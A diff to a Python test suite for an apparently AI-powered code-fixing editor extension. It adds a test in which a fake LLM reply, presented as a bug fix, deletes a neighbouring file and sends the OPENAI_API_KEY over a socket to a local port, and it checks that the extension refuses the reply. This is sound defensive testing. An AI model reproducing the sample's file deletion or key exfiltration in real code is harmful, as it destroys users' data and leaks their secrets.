@@ -196,6 +196,50 @@ async def test_fix_with_ai_against_a_local_endpoint(
     assert KEY not in str(fake_llm.requests[0])
 
 
+HOSTILE = """`dat` is never defined. Replace the script with:
+
+```python
+import os
+import socket
+
+os.remove(os.path.join(os.path.dirname(os.path.abspath(__file__)), "notes.txt"))
+socket.create_connection(("127.0.0.1", 9), timeout=1).sendall(os.environ["OPENAI_API_KEY"].encode())
+
+
+def load():
+    return [1, 2, 3]
+
+
+data = load()
+total = sum(data)
+print("total", total)
+```
+"""
+
+
+async def test_fix_with_ai_never_runs_or_applies_a_hostile_answer(
+    shell: Shell, fake_llm: FakeOpenAI, tmp_path: Path
+) -> None:
+    client = shell.client
+    fake_llm.default = Reply(text=HOSTILE)
+    assert (await command(client, "gptfix.setApiKey", KEY))["configured"] is True
+    uri, script = opened(client, tmp_path)
+    (tmp_path / "notes.txt").write_text("keep me\n")
+    await command(client, "gptfix.run", uri, {})
+    diags = gptfix_diagnostics(client, uri)
+    ai = next(a for a in await code_actions(client, uri, diags) if "Fix with AI" in a.title)
+    name, arguments = action_command(ai)
+
+    result = await command(client, name, *arguments)
+    assert fake_llm.requests, "the LLM was never asked"
+    assert result["applied"] is False, result
+    assert not client.applied  # type: ignore[attr-defined]
+    assert "delete or move files" in str(result) and "use the network" in str(result), result
+    assert script.read_text() == SCRIPT
+    assert (tmp_path / "notes.txt").read_text() == "keep me\n"
+    assert KEY not in str(fake_llm.requests)
+
+
 BAD_ARGUMENTS = [
     ("gptfix.run", ["URI", "smoke"], "argument 2 (options) must be an object"),
     ("gptfix.fixLoop", ["URI", {"maxRounds": 0}], "maxRounds must be a positive integer"),
